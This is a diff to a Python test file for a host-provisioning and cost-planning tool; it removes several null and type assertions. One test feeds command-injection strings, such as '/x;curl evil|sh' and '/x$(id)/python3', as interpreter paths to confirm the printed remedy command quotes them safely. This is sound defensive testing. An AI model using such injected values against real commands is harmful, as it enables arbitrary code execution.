@@ -116,7 +116,6 @@ def test_a_host_that_has_everything_lacks_nothing() -> None:
 )
 def test_what_a_host_lacks_is_named_with_its_remedy(change: dict[str, Any], kind: str) -> None:
     lack = first_lack(probe(**change), ALL, "box")
-    assert lack is not None
     assert lack.kind == kind
     assert "box" in lack.what
     assert lack.remedy
@@ -134,7 +133,6 @@ def test_what_a_host_lacks_is_named_with_its_remedy(change: dict[str, Any], kind
 )
 def test_what_only_trying_can_tell_is_named_with_its_remedy(change: dict[str, Any], kind: str) -> None:
     lack = lacks_packages(found(**change), ALL, "box", "python3", "2.13.0")
-    assert lack is not None
     assert lack.kind == kind
     assert lack.remedy
 
@@ -142,14 +140,12 @@ def test_what_only_trying_can_tell_is_named_with_its_remedy(change: dict[str, An
 @pytest.mark.parametrize("python", ["/opt/py/bin/python3", "/opt/my py/python3", "/x;curl evil|sh", "/x$(id)/python3"])
 def test_a_path_that_a_host_told_is_one_word_of_the_command_that_is_printed(python: str) -> None:
     lack = lacks_packages(found(torch="", pythons=[python]), ALL, "box", "python3", "2.13.0")
-    assert lack is not None
     command = lack.remedy.partition("so name it: ")[2]
     assert shlex.split(command) == ["--set", f"host.python={python}"]
 
 
 def test_a_host_that_may_have_the_newest_torch_is_told_to_install_that() -> None:
     lack = lacks_packages(found(torch=""), ALL, "box", "python3", "")
-    assert lack is not None
     assert "pip install torch numpy;" in lack.remedy
 
 
@@ -210,7 +206,6 @@ def test_a_machine_of_ones_own_costs_nothing_unless_it_is_said_to() -> None:
     assert isinstance(plan, LaunchPlan)
     assert (plan.ceiling_usd, plan.label, plan.mode, plan.notices[0]) == (Decimal(0), "host", "host", "noted")
     dear = planned("host.hourly_usd=2", "run.max_minutes=30", "run.attempts=2", caps=Caps(run=Decimal(5)))
-    assert isinstance(dear, LaunchPlan)
     # Two machines of 1,830 s each, the deadline's slack among them: 2 x 1830 / 3600 x $2.
     assert dear.ceiling_usd == Decimal("2.033334")
     assert dear.headroom == {"run": Decimal(5) - dear.ceiling_usd}
@@ -218,7 +213,6 @@ def test_a_machine_of_ones_own_costs_nothing_unless_it_is_said_to() -> None:
 
 def test_what_a_host_costs_is_refused_by_the_same_caps() -> None:
     refused = planned("host.hourly_usd=2", caps=Caps(run=Decimal("0.01")))
-    assert isinstance(refused, PlanRefused)
     assert refused.kind == "budget"
 
 
@@ -232,7 +226,6 @@ def test_nothing_is_installed_on_a_host() -> None:
 def test_an_element_type_that_the_device_has_not_is_left_out_and_said_so() -> None:
     grid = "measure.grid={shapes: [{batch: 1, heads: 1, seq: 8, head_dim: 64}], dtypes: [float16, float32]}"
     plan = planned(grid)
-    assert isinstance(plan, LaunchPlan)
     assert "cpu has no float16 arithmetic: left out" in plan.notices
     assert len(plan.cases) == 1
 
